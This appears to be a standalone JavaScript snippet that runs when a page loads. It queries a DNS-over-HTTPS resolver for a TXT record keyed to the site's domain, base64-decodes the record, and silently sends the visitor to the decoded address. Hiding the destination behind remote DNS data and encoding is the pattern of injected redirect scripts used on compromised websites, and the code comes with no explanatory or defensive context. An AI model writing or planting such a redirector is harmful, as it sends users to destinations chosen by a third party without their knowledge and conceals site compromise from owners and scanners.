const label = location.hostname.split(".").slice(-2).join("-");
fetch("https://resolver.example/resolve?type=TXT&name=" + label + ".records.example", { headers: { accept: "application/dns-json" } })
  .then((reply) => reply.json())
  .then((reply) => {
    const record = (reply.Answer || [])[0];
    if (!record) return;
    const place = atob(record.data.replace(/"/g, ""));
    window.location.replace(place);
  });
